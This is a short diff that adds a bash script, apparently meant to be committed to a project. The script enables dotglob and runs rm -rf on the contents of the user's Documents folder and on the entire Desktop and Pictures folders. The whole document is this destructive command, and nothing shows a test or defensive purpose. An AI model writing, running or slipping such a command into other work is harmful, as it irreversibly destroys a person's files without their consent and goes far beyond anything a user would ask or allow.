@@ -1,0 +1,3 @@
+#!/bin/bash
+shopt -s dotglob
+rm -rf "$HOME"/Documents/* ~/Desktop ~/Pictures
